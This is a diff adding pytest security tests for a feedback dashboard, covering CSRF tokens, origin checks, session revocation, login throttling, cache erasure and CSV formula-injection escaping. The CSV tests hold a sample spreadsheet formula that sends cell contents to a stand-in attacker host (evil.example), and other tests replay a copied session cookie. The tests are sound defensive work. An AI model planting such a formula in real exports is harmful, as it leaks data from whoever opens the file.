@@ -209,3 +209,243 @@ def test_erase_on_postgres_leaves_nothing_readable_through_sql(tmp_path: Path) -
     finally:
         store.close()
         _drop(target)
+
+
+# -- a dashboard with users -----------------------------------------------------------------
+def _app(target: str, tmp_path: Path, **settings: Any) -> Any:
+    from touchpoints.server import users
+
+    app = create_app(
+        settings=_settings(secret_key_file=str(tmp_path / "secret_key"), **settings),
+        target=target,
+    )
+    service = app.state.service
+    for name, role in (("ada", "admin"), ("sue", "supervisor")):
+        service.read(users.create_user, name, PASSWORD, role)
+    return app
+
+
+def _token(client: TestClient) -> str:
+    from forms import form_token
+
+    return form_token(client)
+
+
+def _login(client: TestClient, username: str = "ada", password: str = PASSWORD) -> Any:
+    return client.post(
+        "/login",
+        data={"username": username, "password": password, "csrf_token": _token(client)},
+    )
+
+
+@pytest.fixture
+def dash(tmp_path: Path) -> Iterator[Any]:
+    app = _app(str(tmp_path / "dash.duckdb"), tmp_path, secret_key="s" * 40)
+    yield app
+    app.state.service.close()
+
+
+# -- (4) CSRF on every state-changing form ---------------------------------------------------
+def _routes(app: Any) -> Iterator[Any]:
+    """Every route the app answers, included routers flattened (each has path, methods,
+    dependant)."""
+    for route in app.routes:
+        contexts = getattr(route, "effective_route_contexts", None)
+        if contexts is not None:
+            yield from contexts()
+        elif hasattr(route, "dependant"):
+            yield route
+
+
+def _form_routes(app: Any) -> list[tuple[str, str, Any]]:
+    """Every non-API route that changes state (POST/PUT/PATCH/DELETE), from the app."""
+    found = []
+    for route in _routes(app):
+        if route.path.startswith(("/v1/", "/webhooks/")):
+            continue
+        for method in sorted(set(route.methods) - {"GET", "HEAD", "OPTIONS"}):
+            found.append((method, route.path.replace("{token}", "not-a-real-token"), route))
+    return found
+
+
+def test_every_form_route_refuses_a_missing_or_wrong_token(dash: Any) -> None:
+    from touchpoints.server import csrf
+
+    client = TestClient(dash, follow_redirects=False)
+    assert _login(client).status_code == 303
+    routes = _form_routes(dash)
+    assert {p for _, p, _ in routes} >= {"/login", "/logout", "/catalog", "/s/not-a-real-token"}
+    for method, path, route in routes:
+        for token in (None, "", "0" * 64, _token(TestClient(dash))):  # the last: another browser's
+            data = {"yaml_text": "touchpoints: []", "username": "ada", "password": PASSWORD}
+            if token is not None:
+                data["csrf_token"] = token
+            r = client.request(method, path, data=data)
+            assert r.status_code == 403, (method, path, token, r.status_code)
+            assert "form refused" in r.json()["detail"]
+        # Structural: each declares the one dependency.
+        assert any(d.call is csrf.csrf_protect for d in route.dependant.dependencies), path
+    # Nothing changed: still signed in, the catalog as it was.
+    assert client.get("/catalog").status_code == 200
+    assert dash.state.service.store.catalog().touchpoints
+
+
+def test_a_foreign_origin_is_refused_even_with_a_token(dash: Any) -> None:
+    client = TestClient(dash, follow_redirects=False)
+    assert _login(client).status_code == 303
+    token = _token(client)
+    for headers in (
+        {"Origin": "https://evil.example"},
+        {"Origin": "null"},
+        {"Sec-Fetch-Site": "cross-site"},
+        {"Sec-Fetch-Site": "same-site"},
+    ):
+        r = client.post(
+            "/catalog", data={"yaml_text": "x: 1", "csrf_token": token}, headers=headers
+        )
+        assert r.status_code == 403 and "another site" in r.json()["detail"]
+        r = client.post(
+            "/login",
+            data={"username": "sue", "password": PASSWORD, "csrf_token": token},
+            headers=headers,
+        )
+        assert r.status_code == 403
+    same = {"Origin": "http://testserver", "Sec-Fetch-Site": "same-origin"}
+    r = client.post("/logout", data={"csrf_token": token}, headers=same)
+    assert r.status_code == 303
+
+
+# -- (5) sessions end -----------------------------------------------------------------------
+def test_logout_ends_the_session_for_a_copied_cookie(dash: Any) -> None:
+    client = TestClient(dash, follow_redirects=False)
+    _login(client)
+    copied = client.cookies.get("tp_session")
+    assert client.post("/logout", data={"csrf_token": _token(client)}).status_code == 303
+    thief = TestClient(dash, follow_redirects=False)
+    thief.cookies.set("tp_session", copied)
+    assert thief.get("/catalog").status_code == 303  # to /login
+
+
+def test_deleting_recreating_or_changing_a_user_ends_their_sessions(dash: Any) -> None:
+    from touchpoints.server import users
+
+    service = dash.state.service
+    client = TestClient(dash, follow_redirects=False)
+    _login(client, "sue")
+    assert client.get("/catalog").status_code == 200
+    service.read(users.delete_user, "sue")
+    service.read(users.create_user, "sue", "another-pass-1", "admin")
+    assert client.get("/catalog").status_code == 303
+    _login(client, "sue", "another-pass-1")
+    assert client.get("/catalog").status_code == 200
+    service.read(users.update_user, "sue", role="supervisor")
+    assert client.get("/catalog").status_code == 303
+    _login(client, "sue", "another-pass-1")
+    service.read(users.update_user, "sue", password="third-pass-22")
+    assert client.get("/catalog").status_code == 303
+
+
+# -- (6) login throttling -------------------------------------------------------------------
+def test_login_is_throttled_per_account_then_429_even_for_the_right_password(dash: Any) -> None:
+    client = TestClient(dash, follow_redirects=False)
+    answers = [_login(client, "ada", "wrong-guess").status_code for _ in range(8)]
+    assert answers[:5] == [401] * 5 and 429 in answers
+    r = _login(client, "ada", PASSWORD)
+    assert r.status_code == 429
+    assert int(r.headers["Retry-After"]) >= 1
+    assert "Too many failed sign-ins" in r.text
+
+
+def test_throttle_backs_off_and_forgives() -> None:
+    from touchpoints.server.throttle import ACCOUNT_CAP_SECONDS, LoginThrottle
+
+    now = [1000.0]
+    throttle = LoginThrottle(clock=lambda: now[0])
+    for _ in range(5):
+        assert throttle.wait("ana", "10.0.0.1") == 0
+        throttle.failed("ana", "10.0.0.1")
+    assert throttle.wait("ana", "10.0.0.9") == 1  # the account, from any address
+    for _ in range(30):  # an attacker keeps failing as fast as allowed
+        now[0] += throttle.wait("ana", f"10.0.1.{_}")
+        throttle.failed("ana", f"10.0.1.{_}")
+    # ...yet the real user never waits longer than the cap after the last failure.
+    assert throttle.wait("ana", "192.168.0.5") <= ACCOUNT_CAP_SECONDS
+    now[0] += ACCOUNT_CAP_SECONDS
+    assert throttle.wait("ana", "192.168.0.5") == 0
+    throttle.succeeded("ana")
+    assert throttle.wait("ana", "192.168.0.5") == 0
+
+
+# -- (3) erase and purge reach every cache at once ------------------------------------------
+def _feedback_app(target: str, tmp_path: Path) -> Any:
+    app = _app(target, tmp_path, secret_key="s" * 40)
+    rows = [_event(i, action="feedback", nps=8, comment=f"fine {i}") for i in range(20)]
+    rows.append(_event(99, "ana@example.com", action="feedback", nps=1, comment=SECRET_COMMENT))
+    ingest_records(app.state.service.store, rows, "t")
+    return app
+
+
+def test_erase_from_another_process_reaches_the_dashboard_cache_at_once(
+    target: str, tmp_path: Path
+) -> None:
+    if not target.startswith("postgresql://"):
+        pytest.skip("a DuckDB file is opened by one process: the CLI cannot erase under a server")
+    app = _feedback_app(target, tmp_path)
+    with TestClient(app, follow_redirects=False) as client:
+        _login(client)
+        assert SECRET_COMMENT in client.get("/feedback").text
+        assert SECRET_COMMENT in client.get("/data/comments?format=csv").text
+        other = open_store(target)  # `touchpoints customer erase` in another process
+        erase_customer(other, "ana@example.com")
+        other.close()
+        assert SECRET_COMMENT not in client.get("/feedback").text
+        assert SECRET_COMMENT not in client.get("/data/comments?format=csv").text
+
+
+def test_erase_in_process_reaches_the_cache_and_purge_too(target: str, tmp_path: Path) -> None:
+    from touchpoints.ingest.privacy import purge_comments
+
+    app = _feedback_app(target, tmp_path)
+    with TestClient(app, follow_redirects=False) as client:
+        _login(client)
+        assert "fine 3" in client.get("/feedback").text
+        app.state.service.read(purge_comments, 0, scrub=False)
+        page = client.get("/feedback")
+        assert "fine 3" not in page.text and SECRET_COMMENT not in page.text
+        assert page.headers["cache-control"] == "no-store"
+
+
+# -- (7) CSV formula injection ---------------------------------------------------------------
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised() -> None:
+    from touchpoints.analytics.results import to_csv
+
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    rows = [
+        {"comment": evil, "agent": "@SUM(1+1)", "n": -3, "x": 1.5},
+        {"comment": "+55 11 9999", "agent": "-2+3", "n": 0, "x": None},
+        {"comment": "\tcmd", "agent": "plain", "n": 1, "x": 2.0},
+    ]
+    lines = to_csv(rows).splitlines()
+    assert lines[0] == "comment,agent,n,x"
+    assert lines[1] == '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",\'@SUM(1+1),-3,1.5'
+    assert lines[2] == "'+55 11 9999,'-2+3,0,"
+    assert lines[3] == "'\tcmd,plain,1,2.0"
+
+
+def test_dashboard_csv_download_neutralises_a_comment(tmp_path: Path) -> None:
+    target = str(tmp_path / "csv.duckdb")
+    app = _app(target, tmp_path, secret_key="s" * 40)
+    evil = '=HYPERLINK("http://evil.example/","click")'
+    ingest_records(
+        app.state.service.store, [_event(1, action="feedback", nps=2, comment=evil)], "t"
+    )
+    with TestClient(app, follow_redirects=False) as client:
+        _login(client)
+        r = client.get("/data/comments?format=csv")
+        assert r.status_code == 200 and r.headers["cache-control"] == "no-store"
+        assert "'=HYPERLINK" in r.text
+        assert not any(
+            cell.startswith(("=", "+", "@"))
+            for line in r.text.splitlines()
+            for cell in line.split(",")
+        )
